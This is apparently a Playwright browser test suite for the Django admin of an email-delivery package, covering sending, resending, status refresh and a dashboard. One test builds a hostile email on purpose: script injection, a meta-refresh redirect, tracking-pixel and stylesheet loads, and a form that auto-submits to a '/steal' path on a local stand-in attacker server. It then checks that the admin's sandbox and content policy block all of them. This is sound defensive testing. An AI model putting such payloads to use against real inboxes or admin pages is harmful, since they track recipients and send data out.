"""The admin in a real browser: headless Chromium (Debian's package) driven by
Playwright, against Django's live server and the sandbox over HTTP.

    python -m pytest -m browser            # screenshots in browser-screenshots/

Every test fails on a JavaScript error, a console error or a failed request, except
the hostile email's, which expects exactly the blocks that protect the admin.
"""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.mail import EmailMessage
from django.db import connections

from django_cloudmails.backends import EmailBackend
from django_cloudmails.models import Delivery
from django_cloudmails.sandbox import Sandbox

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SHOTS = Path(
    os.environ.get("BROWSER_SCREENSHOTS", Path(__file__).parent.parent / "browser-screenshots")
)
SIM = "simulator.cloudmails.test"
PASSWORD = "browser-test-password"


@dataclass
class Browser:
    """A logged-in page, and every problem the browser reported."""

    page: Any
    base: str
    problems: list[str] = field(default_factory=list)

    def console(self, message: Any) -> None:
        url = message.location.get("url", "")
        # Chromium asks every site for /favicon.ico by itself; no page of ours does.
        if message.type == "error" and not url.endswith("/favicon.ico"):
            self.problems.append(f"{message.text} ({url})")

    def go(self, path: str) -> None:
        self.page.goto(self.base + path)

    def row_action(self, name: str, pk: Any, question: str, *, shot: str = "") -> str:
        """On a delivery's page: click the action's button, find ``question`` on the
        confirmation page (a screenshot ``shot`` of it), confirm, and return the success
        message shown on the delivery's page afterwards (its preview frame loaded)."""
        page = self.page
        page.wait_for_load_state("networkidle")  # the preview frame too: leaving aborts it
        page.click(f"a.cm-action-{name}")
        page.wait_for_url(f"**/admin/cloudmails/delivery/{pk}/{name}/")
        page.locator("#content p", has_text=question).wait_for()
        if shot:
            self.shot(shot)
        page.click("input[type=submit][value^='Yes']")
        page.wait_for_url(f"**/admin/cloudmails/delivery/{pk}/change/")
        page.wait_for_load_state("networkidle")
        return str(page.locator(".messagelist .success").inner_text())

    def shot(self, name: str) -> None:
        """The whole page. Taken through a viewport as tall as the page: Chromium's
        full-page capture may leave a cross-origin frame (the preview) blank."""
        SHOTS.mkdir(exist_ok=True)
        size = self.page.viewport_size
        assert size is not None
        height = self.page.evaluate("document.documentElement.scrollHeight")
        self.page.set_viewport_size({"width": size["width"], "height": height})
        self.page.screenshot(path=str(SHOTS / f"{name}.png"))
        self.page.set_viewport_size(size)


@pytest.fixture
def site(live_site: Any, sandbox: Sandbox, use_backend: Any) -> Sandbox:
    """The sandbox (our backend sends to it) with its webhooks pointed at the live server."""
    host, port = live_site.url.removeprefix("http://").split(":")
    sandbox.configure_webhook(f"http://hook:s3cret@{host}:{port}/cloudmails/webhook/")
    return sandbox


@pytest.fixture
def browser(live_site: Any, site: Sandbox, monkeypatch: Any) -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    # Playwright's sync API runs an event loop in this thread; the test's own database
    # work is still synchronous (Django's documented switch for Playwright).
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    get_user_model().objects.create_superuser("admin", "admin@shop.example", PASSWORD)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = chromium.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        result = Browser(page, live_site.url)
        page.on("console", result.console)
        page.on("pageerror", lambda error: result.problems.append(f"script error: {error}"))
        page.on(
            "requestfailed",
            lambda r: result.problems.append(f"request failed: {r.url} {r.failure}"),
        )
        page.on(
            "response",
            lambda r: r.status >= 400 and result.problems.append(f"{r.status} {r.url}"),
        )
        result.go("/admin/login/?next=/admin/")
        page.fill("#id_username", "admin")
        page.fill("#id_password", PASSWORD)
        page.click("input[type=submit]")
        page.wait_for_url(f"{live_site.url}/admin/")
        yield result
        chromium.close()
        # Playwright's running loop makes Django keep this test's connections apart from
        # the thread's (asgiref's Local): close them here, or the test database cannot
        # be dropped afterwards.
        connections.close_all()


def test_a_support_session_from_sending_to_the_dashboard(browser: Browser, site: Sandbox) -> None:
    page = browser.page
    # On SQLite the live server and this test share one in-memory connection: the
    # sandbox holds its events while a request that writes is in flight here.
    site.pause_processing()
    mail.send_mail(
        "Your invoice",
        "Invoice 2026-03: 42.00 EUR.",
        None,
        [f"delivered@{SIM}"],
        html_message="<h1>Invoice 2026-03</h1><p>Total: <b>42.00 EUR</b></p>",
    )
    mail.send_mass_mail(
        [
            ("Spring sale", "20% off this week.", None, [f"{fate}@{SIM}"])
            for fate in ("open", "click", "bounce", "complaint", "deferred")
        ]
    )

    # The deliveries appear, accepted by the API, then delivered through the webhooks.
    browser.go("/admin/cloudmails/delivery/")
    row = page.locator("#result_list tbody tr", has_text=f"delivered@{SIM}")
    assert row.locator(".cm-status-sent").inner_text().strip().endswith("sent")
    browser.shot("1-list-sent")
    site.resume_processing()
    site.wait_idle()
    page.reload()
    assert row.locator(".cm-status-delivered").inner_text().strip().endswith("delivered")
    results = page.locator("#changelist .results")
    assert results.evaluate("box => box.scrollWidth <= box.clientWidth"), "the list overflows"
    browser.shot("2-list-delivered")

    # Its page: the HTML body in a sandboxed frame, the envelope, the timeline.
    row.locator("th a").click()
    frame = page.locator("iframe.cm-preview")
    assert frame.get_attribute("sandbox") == ""
    body = page.frame_locator("iframe.cm-preview").locator("h1")
    assert body.inner_text() == "Invoice 2026-03"
    assert page.locator(".cm-timeline").inner_text().count("event: delivered") == 1
    browser.shot("3-delivery")

    # Resend it: a confirmation, then the new delivery's page, linked to the original.
    original = Delivery.objects.get(to_email=f"delivered@{SIM}")
    page.click("a.cm-action-resend")
    page.wait_for_url(f"**/admin/cloudmails/delivery/{original.pk}/resend/")
    page.locator("#content p", has_text="Send these messages again").wait_for()
    browser.shot("4-resend-confirmation")
    site.pause_processing()
    page.click("input[type=submit][value^='Yes']")
    page.wait_for_url("**/admin/cloudmails/delivery/*/change/")
    resend = Delivery.objects.get(resent_from=original)
    assert page.url.endswith(f"/admin/cloudmails/delivery/{resend.pk}/change/")
    site.resume_processing()
    assert "A resend of" in page.locator(".field-resend_links").inner_text()
    site.wait_idle()
    assert [m.payload["to"] for m in site.messages].count(f"delivered@{SIM}") == 2

    # The deferred one still says "sent": CloudMails sends no webhook for a deferral.
    # Refreshed from its page, it takes the status the API gives.
    deferred = Delivery.objects.get(to_email=f"deferred@{SIM}")
    assert deferred.status == "sent"
    browser.go(f"/admin/cloudmails/delivery/{deferred.pk}/change/")
    success = browser.row_action("refresh", deferred.pk, "Ask CloudMails now for the status")
    assert success == "Asked CloudMails about 1 delivery: 1 now deferred."
    assert page.locator(".field-status_badge .cm-badge").inner_text().endswith("deferred")
    browser.shot("5-refreshed")

    # The dashboard counts them, as the table of deliveries does.
    browser.go("/admin/cloudmails/delivery/dashboard/?period=24h")
    totals = page.locator("table.cm-numbers tfoot td").all_inner_texts()
    rows = Delivery.objects.all()
    expected = [
        rows.count(),
        rows.filter(sent_at__isnull=False).count(),
        rows.filter(status="delivered").count(),
        rows.filter(status="bounced").count(),
        rows.filter(complained_at__isnull=False).count(),
    ]
    assert [int(value) for value in totals[:5]] == expected == [7, 7, 5, 1, 1]
    assert page.locator(".cm-rate-bounce .cm-rate-value").inner_text() == "14.29%"
    warnings = page.locator(".cm-warnings").inner_text()
    assert "Bounce rate 14.29% is above the 5% warning level" in warnings
    assert "Complaint rate 20% is above the 0.1% warning level" in warnings
    browser.shot("6-dashboard")

    assert browser.problems == []


def test_an_unknown_outcome_is_explained_and_retried_from_its_page(
    browser: Browser, site: Sandbox
) -> None:
    page = browser.page
    site.pause_processing()  # its fate (and the webhook naming it) waits: see the first test
    site.faults.script("lose", "lose", "lose")  # accepted each time, every answer lost
    email = EmailMessage("Your receipt", "Paid: 42.00 EUR.", None, [f"delivered@{SIM}"])
    EmailBackend(fail_silently=True, retry_attempts=3).send_messages([email])
    row = Delivery.objects.get()
    assert (row.status, row.message_id) == ("unknown", None)

    browser.go(f"/admin/cloudmails/delivery/{row.pk}/change/")
    page.wait_for_load_state("networkidle")
    assert "may or may not have accepted it" in page.locator(".field-outcome_note").inner_text()
    assert page.locator(".field-recovery_tries .readonly").inner_text() == "0 of 5"
    browser.shot("8-unknown-outcome")

    success = browser.row_action(
        "retry", row.pk, "Settle these messages", shot="9-retry-confirmation"
    )
    assert success == "Retried 1 delivery whose outcome was unknown: 1 accepted by CloudMails."
    assert page.locator(".field-status_badge .cm-badge").inner_text().endswith("sent")

    site.resume_processing()
    site.wait_idle()
    assert len(site.messages) == 1  # the resend was answered from the API's record
    assert Delivery.objects.get().status == "delivered"
    assert browser.problems == []


class Tracker(BaseHTTPRequestHandler):
    """A server an attacker controls: it records every request it gets."""

    hits: list[str] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def tracker() -> Iterator[str]:
    Tracker.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Tracker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_hostile_email_can_do_nothing_to_the_admin(
    browser: Browser, site: Sandbox, tracker: str
) -> None:
    page = browser.page
    hostile = (
        f'<meta http-equiv="refresh" content="0;url={tracker}/refresh">'
        f'<link rel="stylesheet" href="{tracker}/style.css">'
        "<script>parent.document.title = 'owned'; document.body.innerHTML = 'pwned';</script>"
        f'<img src="{tracker}/pixel.gif" alt="pixel">'
        f'<form action="{tracker}/steal" method="post"><input name="q" value="1"></form>'
        "<script>document.forms[0].submit()</script>"
        "<p id='text'>Hello from the message</p>"
    )
    site.pause_processing()  # see the first test
    mail.send_mail("Hostile", "text", None, [f"delivered@{SIM}"], html_message=hostile)
    site.resume_processing()
    site.wait_idle()
    delivery = Delivery.objects.get(subject="Hostile")

    browser.go(f"/admin/cloudmails/delivery/{delivery.pk}/change/")
    frame = page.frame_locator("iframe.cm-preview")
    assert frame.locator("#text").inner_text() == "Hello from the message"
    page.wait_for_load_state("networkidle")
    browser.shot("7-hostile-email")

    assert "owned" not in page.title()
    assert frame.locator("body").inner_text().count("pwned") == 0
    assert Tracker.hits == []
    # What the browser reports is exactly what it refused, and nothing else.
    problems = "\n".join(browser.problems)
    assert problems.count("Blocked script execution") == 2  # sandbox: no allow-scripts
    assert "Refused to execute the redirect" in problems  # the meta refresh
    assert f"Loading the image '{tracker}/pixel.gif' violates" in problems
    assert f"Loading the stylesheet '{tracker}/style.css' violates" in problems
    refused = ("Content Security Policy", "sandboxed", f"request failed: {tracker}/")
    assert all(any(mark in p for mark in refused) for p in browser.problems), problems

    # Asked for, remote images load; nothing else does.
    browser.problems.clear()
    browser.go(f"/admin/cloudmails/delivery/{delivery.pk}/change/?remote_images=1")
    page.frame_locator("iframe.cm-preview").locator("#text").wait_for()
    page.wait_for_load_state("networkidle")
    assert Tracker.hits == ["/pixel.gif"]
